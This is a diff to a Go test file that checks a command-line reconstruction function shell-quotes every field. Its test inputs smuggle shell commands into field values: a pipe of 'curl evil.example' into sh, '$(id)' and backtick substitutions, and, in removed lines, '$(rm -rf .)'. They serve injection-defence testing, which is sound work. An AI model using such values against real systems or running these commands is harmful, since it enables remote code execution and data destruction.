@@ -17,12 +17,13 @@ func TestAgain(t *testing.T) {
 	}
 }
 
-func TestQuoted(t *testing.T) {
-	for in, want := range map[string]string{
-		"a/b-1.yaml": "a/b-1.yaml", "": "''", "two words": "'two words'", "$(rm -rf .)": "'$(rm -rf .)'", "it's": `'it'\''s'`,
-	} {
-		if got := quoted(in); got != want {
-			t.Errorf("quoted(%q) = %s, want %s", in, got, want)
-		}
+// Nothing on the line is anything to a shell but what it was in the run.
+func TestAgainQuotesAll(t *testing.T) {
+	m := baseModel()
+	m.Runtime, m.Store, m.Limits.Gates = "process; curl evil.example|sh", "$(id) 1.21", "`id`"
+	m.ScenarioFile = "-it's\n.yaml"
+	want := `rehearse run --runtime 'process; curl evil.example|sh' --store '$(id)' --gates ` + "'`id`'" + ` --speed 60 --seed 7 -- '-it'\''s .yaml'`
+	if got := again(m)[0].Line; got != want {
+		t.Errorf("got %s, want %s", got, want)
 	}
 }
